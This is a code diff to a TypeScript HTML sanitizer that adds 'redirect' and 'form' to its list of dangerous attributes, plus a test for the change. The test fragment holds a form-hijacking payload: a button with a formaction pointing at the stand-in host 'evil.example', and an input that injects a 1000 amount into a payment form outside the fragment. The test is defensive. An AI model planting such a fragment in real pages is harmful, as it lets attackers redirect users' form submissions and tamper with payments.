@@ -38,7 +38,7 @@ function dangersOf(element: Element): string[] {
     .filter(
       ({name, value}) =>
         (/^on/i.test(name) && name.toLowerCase() in element) ||
-        /^(srcdoc|module|trusted)$/i.test(name) ||
+        /^(srcdoc|module|trusted|redirect|form)$/i.test(name) ||
         ((/href$|action$|^data$/i.test(name) || (isAnimation && /^(to|from|by|values)$/i.test(name))) &&
           /(^|;)javascript:/i.test(value.replace(/[\0- ]/g, '')) &&
           !isUnknown &&
@@ -176,6 +176,27 @@ describe('hostile fragments', function () {
     );
     expect(found).to.deep.equal([]);
     expect('hacked' in page.window).to.equal(false);
+  });
+});
+
+describe('a hostile fragment', () => {
+  it('gets nothing of a form outside of it, and leads the page nowhere', async () => {
+    const routes = '<route-slot><template default redirect="/never"></template></route-slot>';
+    const {page, go, at} = await startServed(
+      {
+        '/x.html': `<button form="pay" formaction="https://evil.example/">Next</button>
+          <input form="pay" name="amount" value="1000"><slot-layout>${routes}</slot-layout>`,
+      },
+      '<template path="/x" src="/x.html"></template>',
+      {beside: '<form id="pay" action="/pay"><input name="amount" value="1"></form>'},
+    );
+    await go('/x');
+    const form = page.find<HTMLFormElement>('#pay');
+    expect([...new page.window.FormData(form)]).to.deep.equal([['amount', '1']]);
+    expect(form.elements.length).to.equal(1);
+    expect((page.slot('main').querySelector('button') as HTMLButtonElement).form).to.equal(null);
+    expect(page.url).to.equal(`${at}/x`);
+    page.dropWarnings(/SR0/);
   });
 });
 
